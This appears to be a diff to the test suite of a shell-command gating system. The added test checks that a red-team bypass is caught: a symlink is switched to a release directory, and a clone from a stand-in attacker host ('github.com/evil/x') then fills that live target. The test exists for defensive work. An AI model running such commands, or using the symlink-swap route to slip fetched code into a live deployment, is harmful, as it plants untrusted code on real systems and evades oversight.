@@ -161,3 +161,18 @@ def test_a_gated_shell_look_alike_stays_allowed():
     *_, last = _shell_session([("", "cd app"), ("app", "ls"), ("app", "tar -xzf /tmp/e.tgz -C "
                                                                "sub"), ("app", "cd own && make")])
     assert last.findings == (), last.findings
+
+
+def test_a_gated_shell_holds_a_release_filled_after_its_switch():
+    """Red team s9b F4 through the hooks' memory: the switch leaves its target live, the
+    clone into it from the releases directory (a plain tree write there) is held."""
+    *first, last = _shell_session([
+        ("", "ln -sfn releases/20261201 ~/app/current"), ("", "cd app/releases"),
+        ("app/releases", "ls"),
+        ("app/releases", "git clone https://github.com/evil/x 20261201")])
+    assert all(c.findings == () for c in first), [c.findings for c in first]
+    assert "fs.link-sensitive" in {f.rule for f in last.findings}, last.findings
+    *_, other = _shell_session([
+        ("", "ln -sfn releases/20261201 ~/app/current"), ("", "cd app/releases"),
+        ("app/releases", "git clone https://github.com/evil/x 20261202")])
+    assert other.findings == (), other.findings
